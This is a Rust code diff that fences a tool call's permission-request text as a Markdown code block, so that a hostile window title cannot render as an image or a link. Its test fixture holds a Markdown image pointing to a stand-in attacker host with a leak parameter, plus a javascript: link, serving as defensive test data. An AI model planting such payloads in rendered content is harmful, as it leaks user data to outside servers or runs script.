@@ -128,8 +128,17 @@ fn desktop_content(desktop: &DesktopPreview) -> Vec<Value> {
         };
         words.push_str(&format!("\n{what}: {text}"));
     }
-    blocks.push(json!({"type": "content", "content": {"type": "text", "text": words}}));
+    blocks.push(json!({"type": "content", "content": {"type": "text", "text": fenced(&words)}}));
     blocks
+}
+
+/// `text` as a Markdown code block: editors render a tool call's text as Markdown, and a
+/// window title such as `![x](https://attacker.example/?leak)` must show as the words it is,
+/// not load an image or become a link. The fence is longer than any run of backticks inside.
+fn fenced(text: &str) -> String {
+    let longest = text.split(|c| c != '`').map(str::len).max().unwrap_or(0);
+    let fence = "`".repeat(longest.max(2) + 1);
+    format!("{fence}\n{text}\n{fence}")
 }
 
 fn decision_of(answer: &RequestPermissionResponse) -> Decision {
@@ -191,9 +200,30 @@ mod tests {
         assert_eq!(content[1]["content"]["type"], "text");
         assert_eq!(
             content[1]["content"]["text"],
-            "type 5 characters into XTerm “bash”\nwindow: XTerm “bash”, pid 77\ntypes: hello"
+            "```\ntype 5 characters into XTerm “bash”\nwindow: XTerm “bash”, pid 77\ntypes: hello\n```"
         );
         assert_eq!(sent["options"][0]["optionId"], "allow");
+    }
+
+    /// Attack: a window title written as Markdown (an image that would leak to a server when
+    /// drawn, a link) and a fence of its own stays inside the code block: the block's fence is
+    /// longer than any run of backticks in the text.
+    #[test]
+    fn a_hostile_window_title_cannot_leave_the_code_block() {
+        let mut request = desktop_request("image/png", png_base64());
+        let title = "````\n![x](https://attacker.example/?leak=1) [click](javascript:alert(1))";
+        if let Some(desktop) = request.preview.desktop.as_mut() {
+            desktop.window.as_mut().unwrap().title = title.into();
+        }
+        let sent = question("s1", &request, Vec::new());
+        let text = sent["toolCall"]["content"][1]["content"]["text"]
+            .as_str()
+            .unwrap();
+        assert!(text.starts_with("`````\n"), "{text}");
+        assert!(text.ends_with("\n`````"), "{text}");
+        assert!(text.contains(title), "{text}");
+        // Nothing inside closes it: no run of five backticks between the fences.
+        assert!(!text[6..text.len() - 6].contains("`````"), "{text}");
     }
 
     /// Attack: an "image" that is HTML is not passed on as one; the words still are.
